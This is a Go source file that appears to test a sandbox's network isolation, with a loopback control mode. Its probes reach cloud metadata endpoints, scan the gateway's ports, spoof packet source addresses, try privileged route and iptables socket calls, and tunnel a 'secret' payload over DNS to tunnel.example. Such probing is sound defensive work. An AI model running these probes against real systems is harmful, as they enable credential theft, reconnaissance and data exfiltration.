package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What is tried on a network. A control has every address on its own loopback.
var network = map[string]technique{
	"net-metadata":           func() error { return tcp("169.254.169.254:80") },
	"net-metadata-task":      func() error { return tcp("169.254.170.2:80") },
	"net-metadata-mapped":    func() error { return tcp("[::ffff:169.254.169.254]:80") },
	"net-metadata-ipv6":      func() error { return tcp("[fd00:ec2::254]:80") },
	"net-private-10":         func() error { return tcp("10.0.0.1:22") },
	"net-private-172":        func() error { return tcp("172.16.0.1:22") },
	"net-private-192":        func() error { return tcp("192.168.0.1:22") },
	"net-private-100":        func() error { return tcp("100.64.0.1:22") },
	"net-public":             func() error { return tcp("192.0.2.1:80") },
	"net-ipv6":               func() error { return tcp("[2001:db8::1]:80") },
	"net-udp":                func() error { return udp("192.0.2.1:4433") },
	"net-multicast":          func() error { return udp("224.0.0.1:5353") },
	"net-link-local":         func() error { return udp("[fe80::1%" + link() + "]:5353") },
	"net-machine":            func() error { return anyTCP(os.Getenv("ATTACK_MACHINE"), "127.0.0.1:4001") },
	"net-neighbour":          func() error { return anyTCP(os.Getenv("ATTACK_NEIGHBOUR"), "127.0.0.1:4002") },
	"net-scan-router":        scanRouter,
	"net-route":              func() error { return routeControl("SIOCADDRT", unix.SIOCADDRT) },
	"net-address":            func() error { return routeControl("SIOCSIFADDR", unix.SIOCSIFADDR) },
	"net-hardware-address":   func() error { return routeControl("SIOCSIFHWADDR", unix.SIOCSIFHWADDR) },
	"net-flags":              func() error { return routeControl("SIOCSIFFLAGS", unix.SIOCSIFFLAGS) },
	"net-forged-source":      forgedSource,
	"net-buffer-force":       func() error { return option(unix.SOL_SOCKET, unix.SO_RCVBUFFORCE) },
	"net-iptables":           func() error { return option(unix.SOL_IP, 64) }, // IPT_SO_SET_REPLACE
	"dns-tunnel":             func() error { return ask("udp", "", strings.Repeat("secret", 9)+".x1.tunnel.example.") },
	"dns-tunnel-tcp":         func() error { return ask("tcp", "", "data.tunnel.example.") },
	"dns-other-server":       func() error { return ask("udp", "192.0.2.53:53", "tunnel.example.") },
	"dns-other-server-tcp":   func() error { return ask("tcp", "192.0.2.53:53", "tunnel.example.") },
	"dns-metadata-name":      func() error { return ask("udp", "", "metadata.google.internal.") },
	"dns-name-of-the-search": func() error { return ask("udp", "", "gateway.internal.") },
}

const patience = 2 * time.Second

func tcp(addr string) error {
	if control {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			return err
		}
		defer func() { _ = l.Close() }()
	}
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return quiet(err)
	}
	_ = c.Close()
	return worked("connected to " + addr)
}

// quiet makes a timeout an answer of its own.
func quiet(err error) error {
	if e, ok := errors.AsType[net.Error](err); ok && e.Timeout() {
		return fmt.Errorf("no answer: %w", unix.ETIMEDOUT)
	}
	return err
}

// anyTCP tries some addresses, which the test has put servers at.
func anyTCP(all, own string) error {
	if control {
		return tcp(own)
	}
	if all == "" {
		return untried("there is no such address here")
	}
	var last error
	for addr := range strings.SplitSeq(all, ",") {
		if last = tcp(addr); errors.As(last, new(worked)) {
			return last
		}
	}
	return last
}

// udp wants an echo, or the news that nobody refused to send.
func udp(addr string) error {
	if control {
		l, err := net.ListenPacket("udp", addr)
		if err != nil {
			return err
		}
		defer func() { _ = l.Close() }()
		go func() {
			b := make([]byte, 1)
			if _, from, err := l.ReadFrom(b); err == nil {
				_, _ = l.WriteTo(b, from)
			}
		}()
	}
	err := send(addr)
	if err != nil {
		return quiet(err)
	}
	return worked("answered by " + addr)
}

// send wants an answer. A connected socket hears of a refusal; one that is not hears
// who answers for a group.
func send(addr string) error {
	var c net.Conn
	to, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return err
	}
	if control || to.IP.IsMulticast() {
		var l *net.UDPConn
		if l, err = net.ListenUDP("udp", nil); err != nil {
			return err
		}
		c = l
		_, err = l.WriteTo([]byte("x"), to)
	} else if c, err = net.Dial("udp", addr); err == nil {
		_, err = c.Write([]byte("x"))
	}
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_ = c.SetReadDeadline(time.Now().Add(patience / 4)) // sockets have deadlines
	_, err = c.Read(make([]byte, 1))
	return err
}

// link is the name of what leads out of here.
func link() string {
	all, err := net.Interfaces()
	if err == nil && !control {
		for _, i := range all {
			if i.Flags&net.FlagLoopback == 0 {
				return i.Name
			}
		}
	}
	return "lo"
}

// scanRouter looks for services where packets leave the sandbox.
func scanRouter() error {
	router, top := "127.0.0.1", 64
	if !control {
		var ok bool
		if router, ok = gateway(); !ok {
			return blockedBy("there is no router: ENETUNREACH")
		}
		top = 128
	} else {
		l, err := net.Listen("tcp", "127.0.0.1:22")
		if err != nil {
			return err
		}
		defer func() { _ = l.Close() }()
	}
	var last error
	for port := 1; port <= top; port++ {
		if port == 53 && !control {
			continue // the resolver that is meant to be there
		}
		c, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", router, port), 20*time.Millisecond)
		if err == nil {
			_ = c.Close()
			return worked(fmt.Sprintf("port %d of the router %s is open", port, router))
		}
		last = quiet(err)
	}
	return fmt.Errorf("no port of the router: %w", last)
}

// gateway is the address of the default route.
func gateway() (string, bool) {
	b, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return "", false
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		f := strings.Fields(line)
		var ip uint32
		if len(f) > 2 && f[1] == "00000000" {
			if _, err := fmt.Sscanf(f[2], "%x", &ip); err == nil {
				return net.IPv4(byte(ip), byte(ip>>8), byte(ip>>16), byte(ip>>24)).String(), true
			}
		}
	}
	return "", false
}

// routeControl is for requests that the kernel refuses before it reads them.
func routeControl(name string, nr uintptr) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	req := at(0x6f6c) // "lo"
	if nr == unix.SIOCSIFFLAGS {
		_, _, _ = unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCGIFFLAGS, req) // to write back what is there
	}
	_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), nr, req)
	if e == unix.EPERM || e == unix.EACCES {
		return os.NewSyscallError("ioctl "+name, e)
	}
	if e == 0 {
		return worked(name + " succeeds")
	}
	return worked(name + " is answered by the kernel: " + unix.ErrnoName(e))
}

// forgedSource has another's address as the source of its packets.
func forgedSource() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	_ = unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1) // of who may, a sandbox's root
	if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: forged(), Port: 4003}); err != nil {
		return err
	}
	if err := unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 1}, Port: 4004}); err != nil {
		return err
	}
	return worked("sent a packet with another's address")
}

func forged() [4]byte {
	if control {
		return [4]byte{10, 0, 0, 1}
	}
	return [4]byte{198, 51, 100, 77}
}

func option(level, name int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	return reachedBy(unix.SetsockoptInt(fd, level, name, 1), "set a privileged option of a socket")
}

// ask puts a question for a name, which carries data in it, to a server.
func ask(proto, server, name string) error {
	if control {
		server = "127.0.0.1:53"
		stop, err := answer(proto, server)
		if err != nil {
			return err
		}
		defer stop()
	}
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, addr string) (net.Conn, error) {
		if server != "" {
			addr = server
		}
		return (&net.Dialer{}).DialContext(ctx, proto, addr)
	}}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	got, err := r.LookupIP(ctx, "ip4", name)
	if e, ok := errors.AsType[*net.DNSError](err); ok {
		switch {
		case e.IsNotFound:
			return blockedBy("NXDOMAIN for " + name)
		case e.IsTimeout:
			return fmt.Errorf("no answer: %w", unix.ETIMEDOUT)
		}
		return blockedBy(e.Error())
	}
	return did(err, fmt.Sprintf("%s is %v", name, got))
}
